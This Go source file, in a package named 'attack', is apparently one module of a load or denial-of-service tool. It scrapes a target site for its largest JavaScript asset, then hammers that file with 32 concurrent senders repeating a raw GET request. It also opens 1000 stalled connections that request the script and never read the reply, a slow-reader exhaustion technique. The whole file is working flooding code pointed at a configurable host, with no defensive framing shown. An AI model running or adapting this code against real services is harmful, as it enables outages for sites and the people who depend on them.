package attack

import (
	"context"
	"io"
	"net/http"
	"regexp"
)

// asset is a file of a built page, as its HTML names it.
var asset = regexp.MustCompile(`/(?:app/)?assets/[\w.-]+\.js`)

// pages takes the largest script of the first page that is served, again and again; without a built page, the page.
func pages(ctx context.Context, p *party) {
	path := p.largest(ctx)
	data := []byte("GET " + path + " HTTP/1.1\r\nHost: " + p.host + "\r\n\r\n")
	p.crowd(ctx, 32, func(int, int) []byte { return data })
}

// unreadPages asks for the largest script, and reads nothing of it.
func unreadPages(ctx context.Context, p *party) {
	p.stalledReaders(ctx, 1000, []byte("GET "+p.largest(ctx)+" HTTP/1.1\r\nHost: "+p.host+"\r\n\r\n"))
}

// largest is the address of that script.
func (p *party) largest(ctx context.Context) (path string) {
	path, most := "/app/", 0
	for _, page := range []string{"/app/", "/"} {
		for _, name := range asset.FindAllString(p.get(ctx, page), -1) {
			if n := len(p.get(ctx, name)); n > most {
				path, most = name, n
			}
		}
	}
	return path
}

// get is the body of an address; "" if it cannot be had.
func (p *party) get(ctx context.Context, path string) string {
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, p.API+path, nil)
	if err != nil {
		return ""
	}
	resp, err := p.client.Do(r)
	if err != nil {
		return ""
	}
	defer resp.Body.Close()
	text, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK {
		return ""
	}
	return string(text)
}
